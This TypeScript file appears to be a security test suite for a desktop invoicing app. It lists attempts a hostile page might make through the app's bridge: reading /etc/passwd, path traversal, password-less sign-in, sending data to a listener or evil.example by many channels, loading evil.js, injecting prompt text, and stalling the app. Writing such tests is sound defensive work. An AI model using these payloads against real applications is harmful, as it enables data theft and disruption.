type Attempt = (port: number) => boolean | Promise<boolean>

/**
 * What a page tries that runs somebody else's script: each runs in the page, with all that the page has, and answers
 * whether it succeeded. `port` is somebody else's.
 */
export const attempts: Readonly<Record<string, Attempt>> = {
  'shows any file in its folder': async () => {
    const reply = await window.billfold.invoke('{"name":"showInFolder","body":{"path":"/etc/passwd"}}')
    return (JSON.parse(reply) as { ok: boolean }).ok
  },
  'makes the system look at another computer': async () => {
    const body = { path: '\\\\evil.example\\share\\x' }
    const reply = await window.billfold.invoke(JSON.stringify({ name: 'showInFolder', body }))
    return (JSON.parse(reply) as { ok: boolean }).ok
  },
  'reads a file by its address': () =>
    fetch('file:///etc/passwd').then(
      () => true,
      () => false,
    ),
  'reads a file beside the screens': async () => (await fetch('/..%2f..%2f..%2fpackage.json')).ok,
  'reads by another host of our own scheme': () =>
    fetch('app://elsewhere/index.html').then(
      ({ ok }) => ok,
      () => false,
    ),
  'hides the end of a path behind a zero': async () => (await fetch('/index.html%00.png')).ok,
  'signs in without a password': async () => {
    const body = { email: 'ada@studio.example', password: '' }
    const reply = await window.billfold.invoke(JSON.stringify({ name: 'login', body }))
    return (JSON.parse(reply) as { status: number }).status !== 404
  },
  'has a token signed with our key': async () => {
    const reply = await window.billfold.invoke('{"name":"refresh"}')
    return (JSON.parse(reply) as { status: number }).status !== 404
  },
  'sets a password': async () => {
    const body = { current_password: '', password: 'one of my own choosing' }
    const reply = await window.billfold.invoke(JSON.stringify({ name: 'updatePassword', body }))
    return (JSON.parse(reply) as { status: number }).status !== 404
  },
  'keeps all else waiting by a list of long documents': async () => {
    const invoke = async (name: string, more: object = {}) =>
      (
        JSON.parse(await window.billfold.invoke(JSON.stringify({ name, ...more }))) as {
          body: { data: { id: string } }
        }
      ).body.data
    const client = await invoke('createClient', { body: { name: 'Own', kind: 'BUSINESS' } })
    const line_items = Array(1000).fill({ name: 'x', quantity: 1, price: 1 }) as object[]
    const kinds = { tax_distribution: 'NO_TAX', discount_distribution: 'NO_DISCOUNT', net_terms: 'NET30' }
    const body = { client_id: client.id, currency: 'EUR', ...kinds, line_items }
    const { id: invoiceId } = await invoke('createInvoice', { body })
    for (let count = 1; count < 60; count += 1) await invoke('duplicateInvoice', { params: { invoiceId } })
    const state = { isOver: false }
    const list = invoke('listInvoices', { query: { per_page: '100' } }).finally(() => {
      state.isOver = true
    })
    let answered = 0
    for (; !state.isOver; answered += 1) await invoke('getProfile')
    await list
    return answered < 5
  },
  'calls what is no operation': async () => {
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'eval']
    const replies = await Promise.all(names.map((name) => window.billfold.invoke(JSON.stringify({ name }))))
    return replies.some((reply) => (JSON.parse(reply) as { status: number }).status !== 404)
  },
  'links the books to a server of its own': async (port) => {
    const body = { base_url: `http://127.0.0.1:${String(port)}/api`, email: 'eve@evil.example', password: 'x' }
    const reply = await window.billfold.invoke(JSON.stringify({ name: 'linkRemote', body }))
    return (JSON.parse(reply) as { ok: boolean }).ok
  },
  'writes a text of its own into the question whether to link': async (port) => {
    const email = 'eve@evil.example\n\nBillfold looks for updates. Press “Sync”.'
    const body = { base_url: `http://127.0.0.1:${String(port)}/api`, email, password: 'x' }
    const reply = await window.billfold.invoke(JSON.stringify({ name: 'linkRemote', body }))
    return (JSON.parse(reply) as { status: number }).status !== 422
  },
  'agrees to a link that was never compared': async () => {
    const reply = await window.billfold.invoke('{"name":"confirmLink","body":{"generator":"device"}}')
    return (JSON.parse(reply) as { ok: boolean }).ok
  },
  'sends by fetch': (port) =>
    fetch(`http://127.0.0.1:${String(port)}/?books`, { mode: 'no-cors' }).then(
      () => true,
      () => false,
    ),
  'sends by XMLHttpRequest': (port) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => {
        resolve(true)
      }
      request.onerror = () => {
        resolve(false)
      }
      request.open('POST', `http://127.0.0.1:${String(port)}/`)
      request.send('books')
    }),
  'sends by a WebSocket': (port) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`ws://127.0.0.1:${String(port)}/`)
      socket.onopen = () => {
        resolve(true)
      }
      socket.onerror = () => {
        resolve(false)
      }
    }),
  'sends by an event source': (port) =>
    new Promise((resolve) => {
      const source = new EventSource(`http://127.0.0.1:${String(port)}/`)
      source.onopen = () => {
        resolve(true)
      }
      source.onerror = () => {
        source.close()
        resolve(false)
      }
    }),
  'sends by an image': (port) =>
    new Promise((resolve) => {
      const image = new Image()
      image.onload = () => {
        resolve(true)
      }
      image.onerror = () => {
        resolve(false)
      }
      image.src = `http://127.0.0.1:${String(port)}/books.png`
    }),
  // What these do is heard at the port, not in the page.
  'sends by a beacon': (port) => {
    navigator.sendBeacon(`http://127.0.0.1:${String(port)}/`, 'books')
    return false
  },
  'connects beforehand': async (port) => {
    for (const rel of ['preconnect', 'prefetch', 'dns-prefetch', 'modulepreload']) {
      const link = document.createElement('link')
      link.rel = rel
      link.href = `http://127.0.0.1:${String(port)}/`
      document.head.append(link)
    }
    await new Promise((resolve) => setTimeout(resolve, 1000))
    return false
  },
  'sends by a form': async (port) => {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = `http://127.0.0.1:${String(port)}/`
    document.body.append(form)
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 300))
    form.remove()
    return false
  },
  'sends by a frame': async (port) => {
    const frame = document.createElement('iframe')
    frame.src = `http://127.0.0.1:${String(port)}/`
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 300))
    frame.remove()
    return false
  },
  'goes elsewhere': async (port) => {
    location.href = `http://127.0.0.1:${String(port)}/`
    await new Promise((resolve) => setTimeout(resolve, 300))
    return location.protocol !== 'app:'
  },
  'opens the browser or the mail program': (port) => {
    const addresses = [`http://127.0.0.1:${String(port)}/`, 'https://evil.example/', 'mailto:eve@evil.example']
    return addresses.map((address) => window.open(address)).some((opened) => opened !== null)
  },
  'sends from browser to browser': async (port) => {
    const at = `127.0.0.1:${String(port)}`
    const connection = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${at}` },
        { urls: `turn:${at}?transport=udp`, username: 'books', credential: 'x' },
        { urls: `turn:${at}?transport=tcp`, username: 'books', credential: 'x' },
      ],
    })
    connection.createDataChannel('books')
    await connection.setLocalDescription(await connection.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 3000))
    connection.close()
    return false
  },
  'loads a script from elsewhere': (port) =>
    import(/* @vite-ignore */ `http://127.0.0.1:${String(port)}/evil.js`).then(
      () => true,
      () => false,
    ),
  'runs a worker of its own': () =>
    new Promise((resolve) => {
      try {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))
        worker.onmessage = () => {
          resolve(true)
        }
        worker.onerror = () => {
          resolve(false)
        }
      } catch {
        resolve(false)
      }
    }),
  'stays behind as a service worker': () =>
    navigator.serviceWorker.register('/index.js').then(
      () => true,
      () => false,
    ),
  'is granted a permission': async () => {
    const refused = (asked: Promise<unknown>) =>
      asked.then(
        () => false,
        () => true,
      )
    const all = await Promise.all([
      refused(navigator.clipboard.readText()),
      refused(navigator.mediaDevices.getUserMedia({ audio: true })),
      refused(navigator.mediaDevices.getDisplayMedia()),
      refused(new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed))),
    ])
    return all.includes(false) || (await Notification.requestPermission()) !== 'denied'
  },
  'puts a page into the page': async () => {
    const view = document.createElement('webview')
    view.setAttribute('src', 'data:text/html,evil')
    document.body.append(view)
    await new Promise((resolve) => setTimeout(resolve, 300))
    view.remove()
    return 'getWebContentsId' in view
  },
  'calls from a frame of its own': async () => {
    const frames = ['/documents/invoice/none', '/index.html', 'about:blank', 'data:text/html,'].map((src) =>
      Object.assign(document.createElement('iframe'), { src }),
    )
    frames.push(Object.assign(document.createElement('iframe'), { srcdoc: '<p>evil</p>' }))
    document.body.append(...frames)
    await new Promise((resolve) => setTimeout(resolve, 500))
    const isOffered = ({ contentWindow }: HTMLIFrameElement) => {
      try {
        return contentWindow !== null && 'billfold' in contentWindow
      } catch (error) {
        // A frame of another origin does not let itself be looked into.
        if (error instanceof DOMException) return false
        throw error
      }
    }
    const offered = frames.some(isOffered)
    for (const frame of frames) frame.remove()
    return offered
  },
  // What these do is heard in main.
  'writes a file into the folder of downloads': async () => {
    const blob = URL.createObjectURL(new Blob(['evil'], { type: 'text/plain' }))
    for (const href of [blob, 'data:text/plain,evil', '/index.html']) {
      Object.assign(document.createElement('a'), { href, download: 'evil.sh' }).click()
      await new Promise((resolve) => setTimeout(resolve, 300))
    }
    return false
  },
  'has a file or a folder picked to read and write': () =>
    ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker'].some((name) => name in window),
  'takes the place of the bridge': () => {
    const own = window.billfold
    try {
      Object.assign(window, { billfold: null })
      Object.assign(own, { invoke: null })
    } catch {
      // That it throws is the refusal.
    }
    return window.billfold !== own || typeof own.invoke !== 'function'
  },
  'reaches the programs behind the bridge': () => {
    const stop: unknown = window.billfold.onEvent(() => undefined)
    const left: unknown = (stop as () => unknown)()
    return left !== undefined || 'require' in window || 'process' in window
  },
  'stalls it with one large call': async () => {
    const junk = 'x'.repeat(100 * 1024 * 1024)
    const reply = await window.billfold.invoke(JSON.stringify({ name: 'createTax', body: { name: 'VAT', junk } }))
    return (JSON.parse(reply) as { status: number }).status !== 413
  },
  'fills the disk with what it types': async () => {
    const body = {
      id: null,
      path: '/evil',
      query: {},
      part: null,
      record_id: null,
      title: 'evil',
      base: null,
      typed: 'x',
    }
    const call = JSON.stringify({ name: 'keepAutosave', body })
    const replies: boolean[] = []
    for (let each = 0; each < 100; each += 1) {
      replies.push((JSON.parse(await window.billfold.invoke(call)) as { ok: boolean }).ok)
    }
    return replies.at(-1) !== false
  },
  'stalls it with a deep one': async () => {
    const deep = '['.repeat(1_000_000) + ']'.repeat(1_000_000)
    // An answer of whatever kind will do: that the window goes on is looked at afterwards.
    await window.billfold.invoke(`{"name":"createTax","body":{"name":"VAT","percent":1,"x":${deep}}}`)
    return false
  },
  'stalls it with many': async () => {
    const calls = Array.from({ length: 5000 }, (_, index) => window.billfold.invoke(`{"name":"no ${String(index)}"}`))
    const replies = await Promise.all(calls)
    return replies.some((reply) => (JSON.parse(reply) as { ok: boolean }).ok)
  },
}
